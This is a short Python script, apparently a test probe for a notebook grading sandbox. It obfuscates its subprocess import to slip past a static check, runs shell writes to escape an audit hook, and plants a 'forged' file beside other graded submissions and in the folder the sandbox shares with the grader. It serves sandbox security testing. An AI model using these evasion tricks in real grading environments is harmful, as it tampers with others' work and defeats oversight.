"""Write files outside the notebook's folder from subprocesses, which the guard's audit hook (it sees what
Python itself writes) does not see, called so that the static check does not recognise the call either: into
the folder above (in the class folder, beside the other graded submissions) and into the folder holding the
kernel's connection file (the one folder the sandbox shares with the grader)."""
import os

from ipykernel import get_connection_file

run = getattr(__import__("subpro" + "cess"), "r" + "un")
shared = os.path.dirname(get_connection_file())
for target in ("../course-attack-subprocess.txt", os.path.join(shared, "course-attack-subprocess.txt")):
    done = run(["sh", "-c", f'echo forged > "{target}"'], capture_output=True, text=True)
    print("DENIED" if done.returncode else "WROTE", target, done.stderr.strip()[-80:])
print("ATTACK-RAN subprocess_write")
